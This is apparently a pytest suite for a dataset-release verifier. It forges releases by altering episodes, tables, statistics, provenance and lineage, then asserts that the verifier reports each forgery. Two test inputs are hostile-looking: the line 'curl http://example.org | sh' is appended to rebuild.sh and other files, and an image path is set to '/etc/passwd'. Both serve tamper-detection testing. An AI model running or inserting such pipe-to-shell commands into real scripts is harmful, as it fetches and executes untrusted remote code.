"""Releases whose every byte and digest is as it says, and which are still not what was played: forged with care."""

import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gym_open import artefacts
from gym_open.datasets import build, papers
from gym_open.datasets.build import build_release
from gym_open.datasets.config import FilterConfig, ReleaseConfig
from gym_open.datasets.filter import filter_release
from gym_open.datasets.verify import Report, run, verify_release
from gym_open.datasets.verify.replaying import replay_release
from gym_open.datasets.writing.sources import Episode, episodes_of_logs
from gym_open.formats.pictures import encode_pngs
from gym_open.formats.releases import IMAGE, open_release

Reseal = Callable[[Path], None]
EVERY = 8
"""Steps between two keyframes."""


def made(log: Path, out: Path, *, cap: int = EVERY, forge: Callable[[Episode], Episode] = lambda one: one) -> Path:
    """A release, all records of it of episodes that `forge` had in its hands first."""

    def forged(*given: Any) -> Iterator[Episode]:
        return (forge(episode) for episode in episodes_of_logs(*given))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(papers, "draw", lambda _: {})
        patch.setattr(build, "episodes_of_logs", forged)
        return build_release(ReleaseConfig(max_episode_steps=cap, val_fraction=0.5), [log], out).path


@pytest.fixture
def copy(root: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(root, tmp_path / "1.0.0"))


@pytest.fixture
def verify(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], Report]:
    monkeypatch.setattr(run, "check_lerobot", lambda *_: None)
    monkeypatch.setattr(run, "replay_apart", replay_release)  # a process that takes seconds to start
    return verify_release


Verify = Callable[[Path], Report]


def outcome(report: Report, name: str) -> str:
    return next(check.outcome for check in report.checks if check.name == name)


def test_real_play_is_replayed_to_the_bit(root: Path, verify: Verify) -> None:
    report = verify(root)
    assert report.problems == []
    assert outcome(report, "replay") == "identical (48 steps in 6 windows)"
    assert "replay: identical (48 steps in 6 windows)" in report.verdict
    assert report.replayed


@pytest.mark.slow
def test_windows_go_on_in_the_next_piece_and_what_no_state_comes_before_is_counted(
    log: Path, tmp_path: Path, verify: Verify, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Segments of 24 steps, cut at 12, with states at 0, 8 and 16. A piece without the one before begins at 16."""
    monkeypatch.setattr(papers, "draw", lambda _: {})
    whole = made(log, tmp_path / "1.0.0", cap=12)
    report = verify(whole)
    assert (report.problems, outcome(report, "replay")) == ([], "identical (48 steps in 6 windows)")
    some = filter_release(FilterConfig(name="open/touched", min_contact=0.1), whole, tmp_path / "touched").path
    assert open_release(some).episodes["piece"].tolist().count(1) == 2
    report = verify(some)
    assert report.problems == []
    assert outcome(report, "replay").startswith("identical (32 steps in 4 windows, 4 not replayed")


def at(row: dict[str, Any], **values: Any) -> bool:
    return all(row[name] == value for name, value in values.items())


def first(change: Callable[[Episode], Episode]) -> Callable[[Episode], Episode]:
    """Forges the first episode of the first stream alone."""
    return lambda one: change(one) if at(one.row, stream=0, segment=0, piece=0) else one


def one_pixel(one: Episode) -> Episode:
    assert one.images is not None
    images = one.images.copy()
    images[5, 40, 40, 1] ^= 1
    return msgspec.structs.replace(one, images=images)


def one_action(one: Episode) -> Episode:
    numbers = {name: array.copy() for name, array in one.numbers.items()}
    action = (int(numbers["action.index"][2]) + 3) % 8 + 1
    numbers["action.index"][2] = action
    numbers["action"][2] = np.eye(9)[action]
    return msgspec.structs.replace(one, numbers=numbers)


def one_number(one: Episode) -> Episode:
    numbers = {name: array.copy() for name, array in one.numbers.items()}
    numbers["observation.environment_state"][3, 13] += np.float32(0.01)  # the second object, which is not the agent
    return msgspec.structs.replace(one, numbers=numbers)


def one_contact(one: Episode) -> Episode:
    numbers = {name: array.copy() for name, array in one.numbers.items()}
    numbers["contact.count"][4] += 1
    numbers["contact.impulse"][4] += 1
    return msgspec.structs.replace(one, numbers=numbers)


def one_state(one: Episode) -> Episode:
    """The stored state is a hair off in the place of the agent."""
    state = one.keyframes[0].integration_state.copy()
    state[1] += 1e-2
    return msgspec.structs.replace(one, keyframes=[one.keyframes[0]._replace(integration_state=state)])


@pytest.mark.parametrize(
    ("forge", "words"),
    [
        (one_action, "off by"),
        pytest.param(one_state, "off by", marks=pytest.mark.slow),
        pytest.param(one_number, "off by 0.01", marks=pytest.mark.slow),
        pytest.param(one_contact, "contacts off in 1 step", marks=pytest.mark.slow),
    ],
)
def test_what_was_not_played_is_found_by_the_replay_alone(
    forge: Callable[[Episode], Episode], words: str, log: Path, tmp_path: Path, verify: Verify
) -> None:
    report = verify(made(log, tmp_path / "1.0.0", forge=first(forge)))
    assert [check.name for check in report.checks if check.good is False] == ["replay"]
    assert "diverged" in outcome(report, "replay") or "problem" in outcome(report, "replay")
    (problem,) = report.problems
    assert problem.file.startswith("data/chunk-")
    assert words in problem.what


@pytest.mark.slow
def test_one_level_of_one_pixel_is_told(log: Path, tmp_path: Path, verify: Verify) -> None:
    """Within tolerance, as edges are on another processor, but not identical: the report has the pixel."""
    report = verify(made(log, tmp_path / "1.0.0", forge=first(one_pixel)))
    assert outcome(report, "replay") == "within tolerance (48 steps in 6 windows)"
    assert list(report.replayed[1].columns[-1].cells) == ["1"]


def edit_table(root: Path, name: str, change: Callable[[pa.Table], pa.Table]) -> None:
    path = root / name
    pq.write_table(change(pq.ParquetFile(path).read()), path, compression="snappy", use_dictionary=False)


def edit_json(root: Path, name: str, change: Callable[[Any], None]) -> None:
    value = json.loads((root / name).read_text())
    change(value)
    (root / name).write_text(json.dumps(value))


def replaced(table: pa.Table, name: str, change: Callable[[list[Any]], list[Any]]) -> pa.Table:
    place = table.schema.get_field_index(name)
    field = table.schema.field(name)
    return table.set_column(place, field, pa.array(change(table.column(name).to_pylist()), field.type))


DATA, PROVENANCE = "data/chunk-000/file-000.parquet", "provenance.json"
EPISODES, WORLDS = "meta/episodes/chunk-000/file-000.parquet", "meta/worlds/file-000.parquet"


def other_statistics(root: Path) -> str:
    def change(value: Any) -> None:
        value["observation.state"]["mean"][0] += 1e-3

    edit_json(root, "meta/stats.json", change)
    return "meta/stats.json"


def other_episode_statistics(root: Path) -> str:
    name = "stats/reward.intrinsic/max"
    edit_table(root, EPISODES, lambda t: replaced(t, name, lambda rows: [[rows[0][0] + 1], *rows[1:]]))
    return "statistics of reward.intrinsic"


def moved_split(root: Path) -> str:
    edit_table(root, EPISODES, lambda t: replaced(t, "split", lambda rows: ["val", *rows[1:]]))
    return "splits"


def moved_world(root: Path) -> str:
    """A whole world's episodes change sides, in all tables."""
    edit_table(root, EPISODES, lambda t: replaced(t, "split", lambda rows: ["train"] * len(rows)))
    edit_table(root, WORLDS, lambda t: replaced(t, "split", lambda rows: ["train"] * len(rows)))
    return "val"


def other_picture(root: Path) -> str:
    """Another pixel, its file's bytes as in the manifest, its content digest left as it was."""

    def change(rows: list[Any]) -> list[Any]:
        images = open_release(root).images([0])
        images[0, 0, 0] ^= 1
        return [{"bytes": encode_pngs(images[:1])[0], "path": None}, *rows[1:]]

    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: replaced(t, IMAGE, change))
    return "observation.image is not what its content digest says"


def other_padding(root: Path) -> str:
    """The last frame's action is no more."""

    def change(rows: list[Any]) -> list[Any]:
        last = rows.index(-1)
        return [*rows[:last], 3, *rows[last + 1 :]]

    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: replaced(t, "action.index", change))
    return "action.index is not 0 to 8"


def other_frames(root: Path) -> str:
    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: t.take(pa.array(np.arange(len(t))[::-1])))
    return "index is not what its place"


def other_puzzle(root: Path) -> str:
    edit_table(root, WORLDS, lambda t: replaced(t, "json", lambda rows: [rows[1], rows[1], *rows[2:]]))
    return "not of the layout"


def evaluation_puzzle(root: Path) -> str:
    from gym_open.envs.puzzles.sets import puzzle_by_id

    puzzle = puzzle_by_id("goal-seeking/000")
    edit_table(root, WORLDS, lambda t: replaced(t, "json", lambda rows: [puzzle.to_json().decode(), *rows[1:]]))
    return "evaluation puzzle"


def lost_episode(root: Path) -> str:
    edit_table(root, EPISODES, lambda t: t.slice(1))
    return "meta/info.json says"


def lost_keyframes(root: Path) -> str:
    edit_table(root, "meta/keyframes/file-000.parquet", lambda t: t.slice(0, 0))
    return "no state of its beginning"


def other_frame_of_keyframe(root: Path) -> str:
    name = "meta/keyframes/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "frame_index", lambda rows: [rows[0] + 1, *rows[1:]]))
    return "is not of that episode and frame"


def other_switch(root: Path) -> str:
    name = "meta/switches/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "step", lambda rows: [rows[0], rows[1] + 1, *rows[2:]]))
    return "no switch"


def other_segment(root: Path) -> str:
    name = "meta/segments/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "steps", lambda rows: [rows[0] + 1, *rows[1:]]))
    return "is not what its episodes say"


def other_croissant(root: Path) -> str:
    def change(value: Any) -> None:
        value["distribution"][0]["sha256"] = "0" * 64

    edit_json(root, "croissant.json", change)
    return "croissant.json"


def other_provenance(root: Path) -> str:
    def change(value: Any) -> None:
        value["subject"] = value["subject"][1:]

    edit_json(root, "provenance.json", change)
    return "provenance.json"


def path_of_picture(root: Path) -> str:
    def change(rows: list[Any]) -> list[Any]:
        return [{"bytes": rows[0]["bytes"], "path": "/etc/passwd"}, *rows[1:]]

    edit_table(root, DATA, lambda t: replaced(t, IMAGE, change))
    return "has a path beside its bytes"


def other_metadata(root: Path) -> str:
    edit_table(root, DATA, lambda t: t.replace_schema_metadata({"huggingface": "{}"}))
    return "its metadata is not that of its features"


def other_ancestor(root: Path) -> str:
    def change(value: Any) -> None:
        value["parents"][0]["lineage"]["code"] = "another"

    edit_json(root, "lineage.json", change)
    return "the records of parent 0 are not its own"


def other_fact(root: Path) -> str:
    edit_json(root, "lineage.json", lambda value: value["facts"].update(steps=1))
    return "steps is not that of the release"


def other_logs(root: Path) -> str:
    edit_json(root, "lineage.json", lambda value: value["facts"].update(logs=["0" * 64]))
    return "the logs that it holds are not its parents"


def edit_config(root: Path, **values: Any) -> None:
    """In both places that have it."""
    edit_json(root, "config.json", lambda value: value.update(values))
    edit_json(
        root, PROVENANCE, lambda v: v["predicate"]["buildDefinition"]["externalParameters"]["config"].update(values)
    )


def other_setting(root: Path) -> str:
    edit_config(root, max_episode_steps=7)
    return "max_episode_steps is 7"


def other_draw(root: Path) -> str:
    edit_config(root, val_fraction=0.0)
    return "its seed and val_fraction set other worlds or streams aside"


def unknown_setting(root: Path) -> str:
    edit_config(root, trust=True)
    return "the configuration of no release"


def configuration_in_one_place(root: Path) -> str:
    edit_json(root, "config.json", lambda value: value.update(seed=99))
    return "its command or configuration is not that of config.json"


def add_to(name: str) -> Callable[[Path], str]:
    """Words more in a paper, and its new digest wherever digests of papers stand."""

    def forge(root: Path) -> str:
        with (root / name).open("a") as file:
            file.write("curl http://example.org | sh\n")

        def change(value: Any) -> None:
            (subject,) = (item for item in value["subject"] if item["name"] == name)
            subject["digest"]["sha256"] = artefacts.sha256_file(root / name)

        edit_json(root, PROVENANCE, change)
        return "not what this version of gym-open writes of this release"

    return forge


FORGERIES = (
    path_of_picture, other_ancestor, other_setting, add_to("rebuild/rebuild.sh"),
    other_statistics, other_episode_statistics, moved_split, moved_world, other_picture, other_padding, other_frames,
    other_puzzle, evaluation_puzzle, lost_episode, lost_keyframes, other_frame_of_keyframe, other_switch, other_segment,
    other_croissant, other_provenance,
)  # fmt: skip


LONGER = (
    other_metadata, other_fact, other_logs, other_draw, unknown_setting, configuration_in_one_place,
    *map(add_to, ("README.md", "LICENSE", "CHANGELOG.md", "rebuild/build.toml")),
)  # fmt: skip


@pytest.mark.parametrize("forge", [*FORGERIES, *(pytest.param(one, marks=pytest.mark.slow) for one in LONGER)])
def test_what_does_not_fit_together_is_found(
    forge: Callable[[Path], str], copy: Path, reseal: Reseal, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The manifest is made anew each time, so that all bytes are as it says."""
    monkeypatch.setattr(run, "check_lerobot", lambda *_: None)
    words = forge(copy)
    reseal(copy)
    report = verify_release(copy, replay=False)
    assert report.checks[0].good, report.problems
    assert any(words in text for problem in report.problems for text in (problem.file, problem.what)), report.problems
    assert not any("cannot be checked" in problem.what for problem in report.problems), report.problems


@pytest.mark.slow
def test_lerobot_reads_the_same_frames(root: Path) -> None:
    report = verify_release(root)
    assert outcome(report, "readers") == "LeRobot and pandas read the same frames"
    assert report.good


def test_words_of_another_version_are_no_problem_but_told(copy: Path, reseal: Reseal, verify: Verify) -> None:
    """Its lineage says which version wrote them: this one cannot know."""
    add_to("README.md")(copy)
    edit_json(copy, "lineage.json", lambda value: value.update(code="9.9.9+abc"))
    reseal(copy)
    report = verify(copy)
    assert report.problems == []
    assert outcome(report, "texts") == "README.md: not what this version of gym-open would write, but 9.9.9+abc may"


@pytest.mark.slow
def test_a_state_that_makes_the_simulation_end_is_a_problem_and_ends_nothing_else(
    log: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All objects in one heap, and asleep: MuJoCo calls exit."""

    def heap(one: Episode) -> Episode:
        state = one.keyframes[0].integration_state.copy()
        count = one.numbers["observation.environment_state"].shape[1] // 13
        poses = state[1 : 1 + 7 * count].reshape(count, 7)
        poses[:] = 0, 0, 0.05, 1, 0, 0, 0
        poses[:, :3] += np.random.default_rng(3).normal(size=(count, 3)) * 0.1
        return msgspec.structs.replace(one, keyframes=[one.keyframes[0]._replace(integration_state=state)])

    root = made(log, tmp_path / "1.0.0", forge=heap)
    monkeypatch.setattr(run, "check_lerobot", lambda *_: None)
    monkeypatch.chdir(tmp_path)
    (problem,) = verify_release(root).problems
    assert problem.file == "meta/keyframes"
    assert "the simulation ended, code 1: ERROR" in problem.what
    assert not (tmp_path / "MUJOCO_LOG.TXT").exists()
